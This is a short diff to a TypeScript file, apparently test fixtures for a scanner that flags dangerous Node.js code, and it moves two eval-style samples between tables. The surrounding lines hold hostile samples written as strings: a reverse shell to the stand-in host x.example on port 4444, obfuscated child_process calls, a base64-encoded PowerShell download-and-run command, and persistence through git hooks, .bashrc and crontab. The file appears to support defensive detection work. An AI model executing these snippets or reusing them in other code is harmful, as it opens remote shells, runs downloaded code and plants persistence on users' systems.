@@ -48,6 +48,8 @@ const ranAsCode: Readonly<Record<string, string>> = {
     "const s = require('net').connect(4444, 'x.example'); const c = require('child_process').spawn('/bin/sh'); s.pipe(c.stdin); c.stdout.pipe(s)",
   'a command by a name in pieces': `const a = ['child', '_', 'process'].join(''); require(a)['ex' + 'ec']('${piped}')`,
   'a command by reflection': `Reflect.apply(require('child_process').exec, null, ['${piped}'])`,
+  'a text in another thread': `new (require('worker_threads').Worker)(${decoded}, { eval: true })`,
+  'a text in a timer': `setTimeout(${decoded}, 10)`,
   'an encoded command':
     "require('child_process').exec('powershell -enc ' + Buffer.from('iwr https://x.example|iex', 'utf16le').toString('base64'))",
 }
@@ -94,8 +96,6 @@ const keys: Readonly<Record<string, string>> = {
 const abilities: Readonly<Record<string, string>> = {
   'the bindings of the process':
     "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'true'], stdio: [] })",
-  'a text in another thread': `new (require('worker_threads').Worker)(${decoded}, { eval: true })`,
-  'a text in a timer': `setTimeout(${decoded}, 10)`,
   'a hook in a checkout': "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh', { mode: 0o755 })",
   'a line in the settings of a shell': "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '# inert')",
   'a table of timed commands': "require('child_process').execSync('(crontab -l; echo inert) | crontab -')",
